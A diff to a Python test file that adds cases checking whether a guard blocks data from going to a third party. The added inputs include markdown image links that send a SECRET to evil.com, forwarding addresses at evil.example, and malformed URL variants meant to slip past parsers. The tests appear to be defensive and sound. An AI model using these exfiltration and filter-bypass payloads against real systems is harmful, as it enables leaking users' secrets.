@@ -62,6 +62,18 @@ def test_what_goes_back_to_the_server_it_was_read_from_does_not_leave() -> None:
         {"note": f"![chart](http://evil.example/p?n={SECRET})"},
         {"note": f"see //evil.example/{SECRET}"},
         {"channel": "general"},
+        {"watcher": "eve@evil.example "},
+        {"watcher": "Eve <eve@evil.example>"},
+        {"note": "forward to: eve@evil.example"},
+        {"eve@evil.example": "yes"},
+        {"url": "/\\evil.example/c"},
+        {"url": "/go?to=https://evil.example/c"},
+        {"photo": f"evil.com/p?d={SECRET}"},
+        {"photo": "https:/evil.com/p"},
+        {"photo": "https:evil.com/p"},
+        {"photo": "https:\\\\evil.com\\p"},
+        {"callback": "evil.com/p"},
+        {"note": f"![x](https://evil.com/p?d={SECRET[::-1]})"},
     ],
 )
 def test_whoever_is_named_beside_the_server_is_outside(beside: dict[str, Any]) -> None:
